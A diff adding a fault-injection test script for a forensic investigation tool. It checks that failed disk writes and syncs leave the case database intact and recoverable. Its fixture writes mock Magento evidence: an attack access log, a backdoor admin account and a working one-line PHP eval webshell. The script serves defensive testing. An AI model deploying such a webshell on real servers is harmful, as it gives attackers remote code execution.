@@ -1,0 +1,131 @@
+# Fault injection under the whole `investigate` (every stage, as the binary runs them): the
+# Nth write, then the Nth sync, of any file in the case folder fails with EIO (and every one
+# after it), through tests/fault/fail_nth.c loaded with LD_PRELOAD. After each failed run:
+#  - the command exits with an error of the README's table (3, 4 or 5), says what failed,
+#    and is never killed by a signal or an internal error (70);
+#  - the case passes SQLite's `PRAGMA integrity_check`;
+#  - `status` does not call the failed run finished;
+#  - a rerun without faults gives exactly the tables of a run that never failed, and
+#    `verify` (which adds a custody row, so after the comparison) finds the evidence intact.
+# Every N for syncs. For writes, make test runs every N up to 5 and then every 50th (a run
+# takes about a second a time); FAULT_EVERY=1 sweeps every N (about 280 runs, minutes).
+set +e +o pipefail  # commands that report findings exit 1; checked explicitly
+T="$TOURNIQUET"
+fail() { echo "FAIL: $*" >&2; exit 1; }
+lib="${TQ_BUILD_DIR:-}/tests/libtq_fail_nth.so"
+[ -f "$lib" ] || exit 77
+command -v python3 > /dev/null || exit 77
+cd "$TQ_TMP" || exit 1
+every="${FAULT_EVERY:-50}"
+
+# A tiny store: one access log (a webshell upload and a dump download among normal
+# requests), a web root with the webshell, a Magento dump with customers and a backdoor admin.
+mkdir -p ev/logs ev/www/pub/media ev/db
+for i in $(seq 10 30); do
+  echo "198.51.100.7 - - [02/Mar/2026:10:00:$i +0000] \"GET /catalog/product/view/id/$i HTTP/1.1\" 200 5120 \"-\" \"Mozilla/5.0\""
+done > ev/logs/access.log
+cat >> ev/logs/access.log <<'EOF'
+203.0.113.9 - - [02/Mar/2026:10:01:00 +0000] "GET /admin/ HTTP/1.1" 200 900 "-" "python-requests/2.31"
+203.0.113.9 - - [02/Mar/2026:10:01:05 +0000] "POST /pub/media/x.php HTTP/1.1" 200 120 "-" "python-requests/2.31"
+203.0.113.9 - - [02/Mar/2026:10:01:09 +0000] "GET /pub/media/x.php?c=id HTTP/1.1" 200 64 "-" "python-requests/2.31"
+203.0.113.9 - - [02/Mar/2026:10:02:00 +0000] "GET /var/backups/db.sql.gz HTTP/1.1" 200 8800000 "-" "python-requests/2.31"
+EOF
+printf '<?php require __DIR__ . "/app/bootstrap.php";\n' > ev/www/index.php
+printf '<?php @eval(base64_decode($_POST["c"]));\n' > ev/www/pub/media/x.php
+cat > ev/db/dump.sql <<'EOF'
+CREATE TABLE `customer_entity` (`entity_id` int NOT NULL, `email` varchar(255), `firstname` varchar(255), `lastname` varchar(255), `created_at` timestamp, PRIMARY KEY (`entity_id`));
+INSERT INTO `customer_entity` VALUES (1,'ann@example.com','Ann','Lee','2025-01-01 00:00:00'),(2,'bob@example.org','Bob','Ray','2025-02-01 00:00:00');
+CREATE TABLE `admin_user` (`user_id` int NOT NULL, `username` varchar(40), `email` varchar(128), `created` timestamp, PRIMARY KEY (`user_id`));
+INSERT INTO `admin_user` VALUES (1,'owner','owner@example.com','2024-01-01 00:00:00'),(2,'sysupdate','x@example.net','2026-03-02 10:01:30');
+EOF
+"$T" init template --name fault --platform magento > /dev/null || fail init
+for label in logs webroot db; do
+  dir=$label; [ $label = webroot ] && dir=www
+  "$T" --case template --quiet collect --label $label ev/$dir > /dev/null || fail "collect $label"
+done
+
+snapshot() {  # every table a run writes, row for row, without the columns that say when
+  python3 - "$1/case.db" "$2" <<'PY'
+import json, sqlite3, sys
+db = sqlite3.connect(sys.argv[1])
+skip_tables = {"audit_log", "stage_runs", "schema_component", "sqlite_sequence"}
+skip_cols = {"created_at", "updated_at", "scanned_at", "read_at"}
+out = {}
+for (t,) in db.execute("SELECT name FROM sqlite_master WHERE type='table' ORDER BY name"):
+    if t in skip_tables or t.startswith("sqlite_"): continue
+    cols = [r[1] for r in db.execute(f'PRAGMA table_info("{t}")')]
+    keep = [c for c in cols if c not in skip_cols]
+    rows = db.execute(f'SELECT {",".join(chr(34) + c + chr(34) for c in keep)} FROM "{t}"').fetchall()
+    out[t] = sorted(json.dumps([x.hex() if isinstance(x, bytes) else x for x in r]) for r in rows)
+json.dump(out, open(sys.argv[2], "w"), indent=0)
+PY
+}
+integrity() {
+  python3 - "$1/case.db" <<'PY'
+import sqlite3, sys
+r = sqlite3.connect(sys.argv[1]).execute("PRAGMA integrity_check").fetchall()
+sys.exit(0 if r == [("ok",)] else (print(r, file=sys.stderr) or 1))
+PY
+}
+
+cp -R template clean
+rc=0; "$T" --case clean --quiet investigate > /dev/null 2> clean.err || rc=$?
+[ $rc -le 1 ] || { cat clean.err >&2; fail "investigate without faults: exit $rc"; }
+snapshot clean want.json || fail snapshot
+python3 -c 'import json,sys; d=json.load(open("want.json")); sys.exit(0 if sum(map(len,d.values()))>20 else 1)' \
+  || fail "the clean run wrote almost nothing: the test would mean nothing"
+
+# One run with the Nth operation of kind $1 failing. Prints "fired" or "clean".
+run_faulted() {
+  local op=$1 n=$2 dir="c_${1}_$2"
+  rm -rf "$dir"; cp -R template "$dir"
+  local rc=0
+  LD_PRELOAD="$lib" TQ_FAULT_DIR="$PWD/$dir" TQ_FAULT_OP=$op TQ_FAULT_NTH=$n \
+    TQ_FAULT_REPORT="$PWD/$dir.rep" "$T" --case "$dir" --quiet investigate > /dev/null \
+    2> "$dir.err" || rc=$?
+  local fired=0; [ -f "$dir.rep" ] && fired=$(awk '{print $2}' "$dir.rep")
+  if [ "$fired" != 1 ]; then
+    [ $rc -le 1 ] || { cat "$dir.err" >&2; fail "$op $n: exit $rc without a fault"; }
+    echo clean; rm -rf "$dir" "$dir".*; return
+  fi
+  case $rc in
+    0|1) ;;  # the failed write was retried or was not needed: the run may still succeed
+    3|4|5) [ -s "$dir.err" ] || fail "$op $n: exit $rc with nothing said" ;;
+    *) cat "$dir.err" >&2; fail "$op $n: exit $rc (a signal or an internal error)" ;;
+  esac
+  integrity "$dir" || fail "$op $n: integrity_check after the fault"
+  if [ $rc -ge 3 ]; then  # a failed run is never shown as a finished investigation
+    "$T" --case "$dir" status > "$dir.status" 2>&1
+    if grep -q '\[x\] investigation' "$dir.status" && ! grep -q 'did not finish' "$dir.status"; then
+      cat "$dir.status" >&2; fail "$op $n: status calls the failed investigate finished"
+    fi
+  fi
+  rc=0; "$T" --case "$dir" --quiet investigate > /dev/null 2> "$dir.err2" || rc=$?
+  [ $rc -le 1 ] || { cat "$dir.err2" >&2; fail "$op $n: rerun exit $rc"; }
+  snapshot "$dir" "$dir.json" || fail snapshot
+  python3 - want.json "$dir.json" "$op $n" <<'PY' || fail "$op $n: the rerun differs from a clean run"
+import json, sys
+a, b = (json.load(open(p)) for p in sys.argv[1:3])
+bad = [t for t in sorted(set(a) | set(b)) if set(a.get(t, [])) != set(b.get(t, []))]
+for t in bad:
+    ra, rb = set(a.get(t, [])), set(b.get(t, []))
+    print(f"{sys.argv[3]}: {t}: {len(ra - rb)} row(s) missing, {len(rb - ra)} extra", file=sys.stderr)
+    for r in sorted(rb - ra)[:2]: print("  extra: " + r[:300], file=sys.stderr)
+sys.exit(1 if bad else 0)
+PY
+  rc=0; "$T" --case "$dir" --quiet verify > "$dir.verify" 2>&1 || rc=$?
+  [ $rc -eq 0 ] || { cat "$dir.verify" >&2; fail "$op $n: verify after the fault and the rerun, exit $rc"; }
+  echo fired; rm -rf "$dir" "$dir".*
+}
+
+for op in sync write; do
+  n=1; runs=0
+  while :; do
+    r=$(run_faulted $op $n) || exit 1
+    [ "$r" = clean ] && break
+    runs=$((runs + 1))
+    if [ $op = sync ] || [ $n -lt 5 ]; then n=$((n + 1)); else n=$((n + every)); fi
+  done
+  echo "investigate: $runs runs with a failed $op (N up to $((n - 1))), each recovered to the clean tables"
+  [ $runs -gt 0 ] || fail "no $op was ever faulted"
+done
